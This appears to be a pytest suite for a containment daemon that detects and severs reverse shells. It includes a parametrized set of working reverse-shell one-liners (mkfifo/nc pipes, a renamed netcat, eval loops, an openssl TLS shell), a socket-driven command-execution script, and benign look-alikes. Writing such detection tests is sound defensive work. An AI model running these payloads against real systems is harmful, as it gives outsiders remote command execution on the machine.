"""Who runs commands that come over a connection, through pipes or by a program, is cut off; shells beside connections are not."""

from __future__ import annotations

import contextlib
import socket
import ssl
import subprocess
import sys
import time
from pathlib import Path

import pytest

from killswitch.commands import Containment
from tests.rig.daemon import Daemon
from tests.rig.netns import FarSide
from tests.rig.tunnels import Hub, certificate

CUT_OFF = Containment(severed=True, frozen=True)
RULE = "shell-fed-through-pipes"


@pytest.fixture(scope="module")
def tls(tmp_path_factory: pytest.TempPathFactory) -> ssl.SSLContext:
    return certificate(tmp_path_factory.mktemp("tls"))


def command(intruder: socket.socket, line: str = "id; sleep 0.1\n") -> str:
    """What the shell over there answers. "" once it is cut off."""
    with contextlib.suppress(OSError):
        intruder.sendall(line.encode())
        return intruder.recv(4096).decode(errors="replace")
    return ""


MOVED = """
import os, select, socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
said, out = os.dup(0), os.dup(1)
for n in (0, 1):
    os.dup2(os.open(os.devnull, os.O_RDWR), n)
while True:
    ready = select.select([s, said], [], [])[0]
    if s in ready:
        os.write(out, s.recv(4096) or sys.exit())
    if said in ready:
        s.sendall(os.read(said, 4096))
"""
FED = {
    "netcat": "mkfifo f; sh -i < f 2>&1 | nc {host} {port} > f",
    "netcat-by-another-name": "mkfifo f; cp $(readlink -f $(which nc)) ./updater; sh < f 2>&1 | ./updater {host} {port} > f",
    "as-everybody-types-it": "rm -f f; mkfifo f; cat f | /bin/sh -i 2>&1 | nc {host} {port} > f",
    "through-filters": "mkfifo f; cat -u < f | bash 2>&1 | cat -u | nc {host} {port} > f",
    "a-fifo-kept-open": "mkfifo f; exec 7<>f; sh <&7 2>&1 | nc {host} {port} >&7",
    "standard-files-moved": "mkfifo f; {python} moved.py {host} {port} < f | sh 2>&1 > f",
    "an-interpreter": "mkfifo f; {python} -i -u < f 2>&1 | nc {host} {port} > f",
    "commands-by-eval": "mkfifo f; while read -r line; do eval \"$line\"; done < f 2>&1 | nc {host} {port} > f",
}  # fmt: skip


@pytest.mark.parametrize("line", FED.values(), ids=FED)
def test_a_shell_behind_pipes(shared_daemon: Daemon, far: FarSide, tmp_path: Path, line: str) -> None:
    shared_daemon.watched("job")
    (tmp_path / "moved.py").write_text(MOVED)
    with Hub(far) as hub:
        words = {"host": hub.host, "port": hub.port, "python": sys.executable}
        shared_daemon.spawn("job", "/bin/bash", "-c", line.format(**words), cwd=tmp_path)
        intruder = hub.accept()
        talks = "print(1)\n" if "-i -u" in line else "id; sleep 0.1\n"
        for _ in range(40):
            if not command(intruder, talks):
                break
            time.sleep(0.2)
        found(shared_daemon)


def test_a_shell_behind_tls(shared_daemon: Daemon, far: FarSide, tmp_path: Path, tls: ssl.SSLContext) -> None:
    shared_daemon.watched("job")
    with Hub(far, tls=tls) as hub:
        line = f"mkfifo f; sh < f 2>&1 | openssl s_client -quiet -connect {hub.host}:{hub.port} > f 2>/dev/null"
        shared_daemon.spawn("job", "/bin/bash", "-c", line, cwd=tmp_path)
        intruder = hub.accept()
        assert "uid=0" in command(intruder)
        found(shared_daemon)


def ask(giving: socket.socket, taking: socket.socket) -> None:
    """A command on the one connection; what the shell says to it, on the other, unless it is cut off."""
    taking.settimeout(2)
    with contextlib.suppress(OSError):
        giving.sendall(b"id\n")
        taking.recv(4096)


def test_a_shell_between_two_connections(shared_daemon: Daemon, far: FarSide, tmp_path: Path) -> None:
    shared_daemon.watched("job")
    with Hub(far) as orders, Hub(far) as answers:
        line = f"sleep 60 | nc {orders.host} {orders.port} | sh 2>&1 | nc {answers.host} {answers.port}"
        shared_daemon.spawn("job", "/bin/bash", "-c", line, cwd=tmp_path)
        giving, taking = orders.accept(), answers.accept()
        giving.sendall(b"id\n")
        assert "uid=0" in taking.recv(4096).decode()
        for _ in range(60):  # a script comes as a whole: it takes a conversation
            if (w := shared_daemon.workload("job")) is not None and w.observed == CUT_OFF:
                break
            ask(giving, taking)
            time.sleep(0.2)
        found(shared_daemon)


OBEDIENT = """
import socket, subprocess, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
while line := s.recv(4096):
    s.sendall(subprocess.run(line, shell=True, capture_output=True).stdout + b"> ")
"""


def test_a_program_that_does_as_it_is_told(shared_daemon: Daemon, far: FarSide, tmp_path: Path) -> None:
    shared_daemon.watched("job")
    with Hub(far) as hub:
        shared_daemon.spawn("job", sys.executable, "-c", OBEDIENT, hub.host, str(hub.port), cwd=tmp_path)
        intruder = hub.accept()
        for _ in range(40):
            if not command(intruder, "id\n"):
                break
            time.sleep(0.2)
        found(shared_daemon, "commands-from-outside", "python3")


def found(daemon: Daemon, rule: str = RULE, words: str = "fed through pipes by") -> None:
    daemon.wait_for("cut off", lambda: (w := daemon.workload("job")) is not None and w.observed == CUT_OFF)
    w = daemon.workload("job")
    assert w
    findings = {f.rule: f for f in daemon.client.incident(w.incident).findings}
    assert rule in findings
    assert words in findings[rule].summary


# --- innocent -----------------------------------------------------------------------------------------------------------

AGENT = """
import socket, subprocess, sys, time
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
shell = subprocess.Popen(["/bin/bash"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, bufsize=1)
for _ in range(25):
    s.sendall(b"a long prompt, with everything said so far; what shall I do?\\n")
    s.recv(4096)
    shell.stdin.write("date\\n")
    shell.stdin.flush()
    print(shell.stdout.readline(), flush=True)
    time.sleep(0.1)
print("done")
"""
TOOLS = """
import socket, subprocess, sys, time
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
for _ in range(15):
    s.sendall(b"a long prompt, with everything said so far; what shall I do?\\n")
    s.recv(4096)
    subprocess.run("date", shell=True)
    time.sleep(0.1)
print("done")
"""
MAILER = """
import socket, subprocess, sys, time
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
found = [subprocess.run("date", shell=True, capture_output=True).stdout for _ in range(15)]
s.sendall(b"HELO\\n")
for line in found:
    s.recv(4096)
    s.sendall(line)
    time.sleep(0.1)
print("done")
"""
HONEST = {
    "an installer": "for i in 1 2 3; do nc -N {host} {port} < request | sh; done | tee log; echo done",
    "installers by turns": "mkfifo s; exec 9<>s; echo >&9;"
    "for i in 1 2 3; do read -u 9; nc -N {host} {port} < request | sh; echo >&9; done; echo done",
    "a filter to a log host": "for i in $(seq 25); do echo $i; sleep 0.1; done | rev | nc -N {host} {port} > answer; echo done",
    "an agent with a shell of its own": "exec {python} agent.py {host} {port}",
    "an agent that runs its tools": "exec {python} tools.py {host} {port}",
    "a mailer that has looked first": "exec {python} mailer.py {host} {port}",
    "a script that asks": "mkfifo f; bash asks.sh < f | nc {host} {port} > f; echo done",
}  # fmt: skip


@pytest.mark.parametrize("line", HONEST.values(), ids=HONEST)
def test_honest_work_with_a_shell_beside_a_connection(
    shared_daemon: Daemon, far: FarSide, tmp_path: Path, line: str
) -> None:
    shared_daemon.watched("job")
    (tmp_path / "agent.py").write_text(AGENT)
    (tmp_path / "tools.py").write_text(TOOLS)
    (tmp_path / "mailer.py").write_text(MAILER)
    (tmp_path / "request").write_text("which version?\n")
    (tmp_path / "asks.sh").write_text("for i in $(seq 25); do echo question $i; read -r answer; sleep 0.1; done\n")
    with Hub(far) as hub:
        words = {"host": hub.host, "port": hub.port, "python": sys.executable}
        job = shared_daemon.spawn(
            "job", "/bin/bash", "-c", line.format(**words), cwd=tmp_path, stdout=subprocess.PIPE, text=True
        )
        for _ in range(3 if "for i in 1 2 3" in line else 1):
            served = hub.accept()
            with contextlib.suppress(OSError):
                while served.recv(4096):
                    served.sendall(b"sleep 1; echo installed\n")
                    if "request" in line:
                        time.sleep(1.3)  # one look at least while it is open
                        break
                served.shutdown(socket.SHUT_RDWR)
        out, _ = job.communicate(timeout=30)
        assert "done" in str(out)
    w = shared_daemon.workload("job")
    assert w is not None and w.observed == Containment(), shared_daemon.log()[-4000:]
